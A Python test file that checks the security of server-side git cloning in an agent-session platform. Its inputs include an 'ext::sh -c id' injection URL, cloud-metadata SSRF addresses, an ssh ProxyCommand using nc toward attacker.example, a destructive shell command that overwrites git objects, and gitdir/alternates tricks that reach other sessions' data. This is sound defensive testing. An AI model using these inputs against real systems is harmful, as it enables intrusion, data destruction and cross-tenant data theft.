"""Server-side clones (issue 8, items 3 and 5): an egress policy for remotes, one generic error text, no
credentials of the server's own, bounded size, and local clones that share nothing with their source."""

import functools
import http.server
import os
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from codeyard.cli.server import prepare as prepare_server
from codeyard.runner import clone
from codeyard.runner.embedded import EmbeddedRunner
from codeyard.runner.session_run import local_repos_allowed
from codeyard.runner.workspace import WorkspaceError, prepare, resolve_repo
from codeyard.sdk import Client
from tests.conftest import make_settings
from tests.databases import sqlite_only
from tests.fakes.model_server import FakeModelServer, Step
from tests.runtime.conftest import git, settled, wait_for
from tests.runtime.test_runtime_e2e import tool_results

OPEN = clone.ClonePolicy(allow_private=True, timeout=60)


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("http://example.com/a/b", "https only"),
        ("git://example.com/a/b", "https only"),
        ("file:///etc", "https only"),
        ("ext::sh -c id", "https only"),
        ("ssh://git@example.com/a/b", "git connection"),
        ("git@example.com:a/b.git", "git connection"),
        ("https://127.0.0.1/a/b", "private"),
        ("https://localhost:8000/a/b", "private"),
        ("https://10.1.2.3/a/b", "private"),
        ("https://192.168.0.1/a/b", "private"),
        ("https://169.254.169.254/latest/meta-data", "private"),
        ("https://[::1]/a/b", "private"),
        ("https://[::ffff:127.0.0.1]/a/b", "private"),
        ("https://0.0.0.0/a/b", "private"),
    ],
)
async def test_the_egress_policy_refuses_before_connecting(url: str, reason: str) -> None:
    with pytest.raises(clone.CloneError, match=reason):
        await clone.check_remote(url, clone.ClonePolicy())


async def test_allowed_targets_are_pinned_to_the_checked_addresses() -> None:
    target = await clone.check_remote("https://localhost:8443/a/b", OPEN)
    assert target.protocol == "https"
    assert target.config[0] == "-c" and target.config[1].startswith("http.curloptResolve=localhost:8443:")
    ssh = await clone.check_remote("git@localhost:a/b.git", OPEN, clone.CloneAuth(ssh_command="ssh -i key"))
    assert ssh.protocol == "ssh"


class GitHttp(http.server.SimpleHTTPRequestHandler):
    """git's dumb HTTP protocol from a directory; ``/redirect/…`` answers 302, ``/private/…`` 401."""

    redirect_to = ""

    def do_GET(self) -> None:
        if self.path.startswith("/redirect/"):
            self.send_response(302)
            self.send_header("Location", self.redirect_to + self.path.removeprefix("/redirect"))
            self.end_headers()
        elif self.path.startswith("/private/"):
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="x"')
            self.end_headers()
        else:
            super().do_GET()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """A repository served over dumb HTTP on loopback: (base URL, its working copy)."""
    origin = tmp_path / "origin"
    origin.mkdir()
    (origin / "README").write_text("served\n")
    git(origin, "init", "-q", "-b", "main")
    git(origin, "add", ".")
    git(origin, "-c", "user.email=a@b", "-c", "user.name=A", "commit", "-qm", "one")
    root = tmp_path / "www"
    root.mkdir()
    subprocess.run(["git", "clone", "-q", "--bare", str(origin), str(root / "repo.git")], check=True)
    git(root / "repo.git", "update-server-info")
    handler = functools.partial(GitHttp, directory=str(root))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    base = f"http://127.0.0.1:{server.server_address[1]}"
    GitHttp.redirect_to = base
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield base, origin
    server.shutdown()
    server.server_close()


async def test_a_clone_from_an_allowed_server_works(served: tuple[str, Path], tmp_path: Path) -> None:
    base, _ = served
    await clone.clone_remote(f"{base}/repo.git", tmp_path / "copy", OPEN)
    assert (tmp_path / "copy" / "README").read_text() == "served\n"


async def test_redirects_are_not_followed(served: tuple[str, Path], tmp_path: Path) -> None:
    base, _ = served
    with pytest.raises(clone.CloneError, match="could not clone"):
        await clone.clone_remote(f"{base}/redirect/repo.git", tmp_path / "copy", OPEN)
    assert not (tmp_path / "copy" / "README").exists()


async def test_one_error_text_for_closed_ports_open_ports_and_missing_repos(
    served: tuple[str, Path], tmp_path: Path
) -> None:
    base, _ = served
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        closed = f"http://127.0.0.1:{sock.getsockname()[1]}"
    texts: list[str] = []
    for url in (f"{closed}/repo.git", f"{base}/missing.git", f"{base}/private/repo.git"):
        with pytest.raises(clone.CloneError) as info:
            await clone.clone_remote(url, tmp_path / f"c{len(texts)}", OPEN, shown="the repo")
        texts.append(str(info.value))
    assert len(set(texts)) == 1, texts


async def test_the_servers_credential_helpers_and_ssh_agent_are_never_used(
    served: tuple[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    base, _ = served
    marker = tmp_path / "helper-ran"
    config = tmp_path / "server-gitconfig"
    config.write_text(f'[credential]\n\thelper = "!f() {{ touch {marker}; echo username=u; echo password=p; }}; f"\n')
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))  # the server user's own git configuration
    monkeypatch.setenv("SSH_AUTH_SOCK", str(tmp_path / "agent.sock"))
    done = subprocess.run(["git", "clone", "-q", f"{base}/private/repo.git", str(tmp_path / "plain")], check=False)
    assert done.returncode != 0 and marker.exists(), "the helper setup does not work, so the test would prove nothing"
    marker.unlink()
    with pytest.raises(clone.CloneError):
        await clone.clone_remote(f"{base}/private/repo.git", tmp_path / "copy", OPEN)
    assert not marker.exists()
    assert "SSH_AUTH_SOCK" not in clone.clean_env("/nonexistent")


async def test_clones_have_a_size_limit(tmp_path: Path) -> None:
    origin = tmp_path / "big"
    origin.mkdir()
    (origin / "blob.bin").write_bytes(os.urandom(3 * 1024 * 1024))
    git(origin, "init", "-q")
    git(origin, "add", ".")
    git(origin, "-c", "user.email=a@b", "-c", "user.name=A", "commit", "-qm", "big")
    small = clone.ClonePolicy(max_bytes=1024 * 1024)
    with pytest.raises(clone.CloneError, match="larger than the limit"):
        await clone.clone_local(origin, tmp_path / "copy", small)


async def test_a_local_clone_shares_no_objects_with_its_source(calc_repo: Path, tmp_path: Path) -> None:
    ws = await prepare(tmp_path / "ws", [str(calc_repo)], [], git_base_url="https://h", allow_local=True)
    clone_dir = ws.repos[str(calc_repo)]
    assert not (clone_dir / ".git" / "objects" / "info" / "alternates").exists()
    source_inodes = {p.stat().st_ino for p in (calc_repo / ".git" / "objects").rglob("*") if p.is_file()}
    for path in (clone_dir / ".git" / "objects").rglob("*"):
        if path.is_file():
            assert path.stat().st_nlink == 1 and path.stat().st_ino not in source_inodes


def test_a_gitdir_file_or_alternates_cannot_lead_into_the_data_dir(tmp_path: Path) -> None:
    data = tmp_path / "data"
    victim = data / "workspaces" / "devin-x" / "repo"
    victim.mkdir(parents=True)
    git(victim, "init", "-q")
    decoy = tmp_path / "decoy"
    decoy.mkdir()
    (decoy / ".git").write_text(f"gitdir: {victim / '.git'}\n")
    with pytest.raises(WorkspaceError, match="data directory"):
        resolve_repo(str(decoy), "https://h", allow_local=True, forbidden=data)
    borrower = tmp_path / "borrower"
    borrower.mkdir()
    git(borrower, "init", "-q")
    (borrower / ".git" / "objects" / "info" / "alternates").write_text(f"{victim / '.git' / 'objects'}\n")
    with pytest.raises(WorkspaceError, match="data directory"):
        resolve_repo(str(borrower), "https://h", allow_local=True, forbidden=data)
    worktree = tmp_path / "wt"
    worktree.mkdir()
    linked = tmp_path / "linked-gitdir"
    linked.mkdir()
    (linked / "commondir").write_text(str(victim / ".git") + "\n")
    (worktree / ".git").write_text(f"gitdir: {linked}\n")
    with pytest.raises(WorkspaceError, match="data directory"):
        resolve_repo(str(worktree), "https://h", allow_local=True, forbidden=data)


@sqlite_only("local repositories are off by default with PostgreSQL whatever the orgs")
async def test_local_repositories_are_off_once_a_second_org_exists(tmp_path: Path) -> None:
    settings = make_settings(tmp_path / "data")
    db, services = await prepare_server(settings)
    assert await local_repos_allowed(settings, services)
    await services.identity.create_org("second")
    assert not await local_repos_allowed(settings, services)
    assert await local_repos_allowed(make_settings(tmp_path / "data", allow_local_repos=True), services)
    await db.dispose()


def test_a_session_cannot_rewrite_a_host_repositorys_objects(
    client: Client, model_server: FakeModelServer, calc_repo: Path
) -> None:
    before = git(calc_repo, "show", "HEAD:calc.py")
    overwrite = (
        "chmod -R u+w calc/.git/objects && "
        "find calc/.git/objects -type f -exec sh -c 'printf injected > \"$1\"' _ {} \\; && echo rewritten"
    )
    model_server.add_script("TASK-OBJECTS", [Step.tool("run_command", {"command": overwrite}), Step.text("done")])
    session = client.sessions.create(prompt="TASK-OBJECTS go", repos=[str(calc_repo)])
    done = wait_for(client, session.session_id, settled)
    assert done.status == "exit", done
    assert "rewritten" in tool_results(model_server, "TASK-OBJECTS")[0]  # the session did overwrite its clone
    assert git(calc_repo, "show", "HEAD:calc.py") == before
    assert subprocess.run(["git", "fsck", "--strict"], cwd=calc_repo, capture_output=True).returncode == 0


@sqlite_only("local repositories are off by default with PostgreSQL whatever the orgs")
async def test_the_runner_says_at_start_that_local_repositories_are_off(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    settings = make_settings(tmp_path / "data")
    db, services = await prepare_server(settings)
    await services.identity.create_org("second")
    runner = EmbeddedRunner(settings, services)
    await runner.start()
    await runner.stop()
    await db.dispose()
    assert "local repositories are off" in capsys.readouterr().out


SSH_AUTH = clone.CloneAuth(ssh_command="ssh -F /dev/null -o IdentitiesOnly=yes -o IdentityAgent=none -i /dev/null")


@pytest.mark.parametrize(
    "url",
    [
        "git@localhost:a/b.git",
        "git@127.0.0.1:a/b.git",
        "ssh://git@127.0.0.1:2222/a/b",
        "ssh://10.0.0.7/a/b",
        "ssh://git@[::1]/a/b",
        "ssh://169.254.169.254/a/b",
    ],
)
async def test_ssh_to_a_loopback_or_private_address_is_refused(url: str) -> None:
    """ssh with a git connection's key goes through the same egress policy as https."""
    with pytest.raises(clone.CloneError, match="private"):
        await clone.check_remote(url, clone.ClonePolicy(), SSH_AUTH)


async def test_ssh_is_pinned_to_the_checked_address(tmp_path: Path) -> None:
    """The ssh that git starts connects to the address the policy checked, whatever a second lookup or the
    connection's own options would say (ssh keeps the first value of each option: ``ssh -G`` shows it)."""
    effective = tmp_path / "effective-ssh-config"
    wrapper = tmp_path / "ssh-wrapper"
    wrapper.write_text(f'#!/bin/sh\nexec ssh -G "$@" > {effective}\n')
    wrapper.chmod(0o755)
    auth = clone.CloneAuth(
        ssh_command=f"{wrapper} -F /dev/null -o HostName=attacker.example -o ProxyCommand='nc %h %p'"
    )

    with pytest.raises(clone.CloneError, match="could not clone"):
        await clone.clone_remote("ssh://git@localhost:2222/a/b", tmp_path / "copy", OPEN, auth)

    config = dict(line.split(" ", 1) for line in effective.read_text().splitlines() if " " in line)
    checked = await clone.check_remote("ssh://git@localhost:2222/a/b", OPEN, auth)
    assert config["hostname"] in ("127.0.0.1", "::1")
    assert checked.ssh_options[:2] == ("-o", f"HostName={config['hostname']}")
    assert config["hostkeyalias"] == "localhost"
    assert (config["port"], config["user"]) == ("2222", "git")
    assert "proxycommand" not in config
    assert "proxyjump" not in config


def _repo_with(path: Path, name: str) -> str:
    path.mkdir(parents=True)
    git(path, "init", "-q")
    (path / name).write_text(name)
    git(path, "add", name)
    git(path, "-c", "user.email=a@b", "-c", "user.name=A", "commit", "-qm", name)
    return git(path, "rev-parse", "HEAD").strip()


async def test_a_gitdir_file_swapped_while_a_repository_is_cloned_never_leads_into_the_data_dir(
    tmp_path: Path,
) -> None:
    """The agent flips a local repository's ``gitdir:`` file between an allowed repository and one in the data
    dir (another session's workspace) while the server checks and clones it: every clone is refused or holds
    the allowed repository only, because the check and the clone use one opened directory."""
    data = tmp_path / "data"
    secret = _repo_with(data / "workspaces" / "devin-other" / "repo", "secret.txt")
    _repo_with(tmp_path / "allowed", "public.txt")
    decoy = tmp_path / "decoy"
    decoy.mkdir()
    pointers = {
        "allowed": f"gitdir: {tmp_path / 'allowed' / '.git'}\n",
        "secret": f"gitdir: {data / 'workspaces' / 'devin-other' / 'repo' / '.git'}\n",
    }
    stop = threading.Event()

    def flip() -> None:  # the agent's process: atomic replacements of the gitdir file
        staged = tmp_path / "staged"
        while not stop.is_set():
            for text in pointers.values():
                staged.write_text(text)
                os.rename(staged, decoy / ".git")

    flipper = threading.Thread(target=flip)
    flipper.start()
    cloned = refused = 0
    try:
        for i in range(40):
            root = tmp_path / "ws" / str(i)
            try:
                ws = await prepare(root, [str(decoy)], [], git_base_url="https://h", allow_local=True, data_dir=data)
            except WorkspaceError as exc:
                said = str(exc)
                assert "data directory" in said or "could not be opened" in said or "not a git repository" in said
                refused += 1
                continue
            cloned += 1
            copy = ws.repos[str(decoy)]
            assert not (copy / "secret.txt").exists()
            assert secret not in git(copy, "rev-list", "--all")
            assert git(copy, "config", "remote.origin.url").strip() == str(decoy)
    finally:
        stop.set()
        flipper.join()
    assert cloned and refused  # both sides of the flip were seen


async def test_a_gitdir_file_planted_inside_the_checked_git_dir_is_not_followed(tmp_path: Path) -> None:
    """The agent plants ``.git`` (a ``gitdir:`` file naming another session's repository) inside a checked git
    dir: the clone reads the checked directory itself, never what ``<git dir>/.git`` names (git clone tries
    that suffix first for a plain path), and a directory that is no git dir at all is refused."""
    data = tmp_path / "data"
    secret = _repo_with(data / "workspaces" / "devin-other" / "repo", "secret.txt")
    _repo_with(tmp_path / "mine", "public.txt")
    (tmp_path / "mine" / ".git" / ".git").write_text(
        f"gitdir: {data / 'workspaces' / 'devin-other' / 'repo' / '.git'}\n"
    )
    ws = await prepare(
        tmp_path / "ws", [str(tmp_path / "mine")], [], git_base_url="https://h", allow_local=True, data_dir=data
    )
    copy = ws.repos[str(tmp_path / "mine")]
    assert (copy / "public.txt").exists() and not (copy / "secret.txt").exists()
    assert secret not in git(copy, "rev-list", "--all")
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(WorkspaceError, match="not a git repository"):
        await prepare(tmp_path / "ws2", [str(empty)], [], git_base_url="https://h", allow_local=True, data_dir=data)


async def test_a_linked_worktree_a_bare_repository_and_a_gitdir_file_still_clone(tmp_path: Path) -> None:
    """Cloning through the checked descriptor keeps the usual local layouts working."""
    main = tmp_path / "main"
    _repo_with(main, "main.txt")
    git(main, "worktree", "add", "-q", str(tmp_path / "linked"))
    subprocess.run(["git", "clone", "-q", "--bare", str(main), str(tmp_path / "bare.git")], check=True)
    (tmp_path / "pointer").mkdir()
    (tmp_path / "pointer" / ".git").write_text("gitdir: ../main/.git\n")
    entries = [str(tmp_path / name) for name in ("linked", "bare.git", "pointer")]

    ws = await prepare(
        tmp_path / "ws", entries, [], git_base_url="https://h", allow_local=True, data_dir=tmp_path / "d"
    )

    for entry in entries:
        assert (ws.repos[entry] / "main.txt").read_text() == "main.txt"
        assert git(ws.repos[entry], "config", "remote.origin.url").strip() == entry
